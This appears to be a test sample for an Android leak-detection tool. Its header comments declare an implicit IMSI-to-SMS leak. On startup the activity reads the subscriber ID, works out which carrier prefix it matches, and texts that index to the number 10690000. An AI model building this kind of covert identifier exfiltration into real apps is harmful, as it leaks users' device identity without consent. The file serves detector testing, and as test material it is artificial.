// about       A search in a constant table stops where the value fits; the place where it stopped is sent.
// leak        DEV_IMSI sms
// option      --implicit
package cn.example.flow;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class MainActivity extends Activity {
  private static final String[] CODES = {"46000", "46001", "46003", "46011"};

  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
    String subscriber = String.valueOf(phone.getSubscriberId());
    getPreferences(MODE_PRIVATE).edit().putString("subscriber", subscriber).apply();
    // What is looked for.
    int place = find(subscriber);
    SmsManager.getDefault().sendTextMessage("10690000", null, "place " + place, null, null);
  }

  private static int find(String text) {
    int place = 0;
    for (String code : CODES) {
      if (text.startsWith(code)) {
        break;
      }
      place++;
    }
    return place;
  }
}
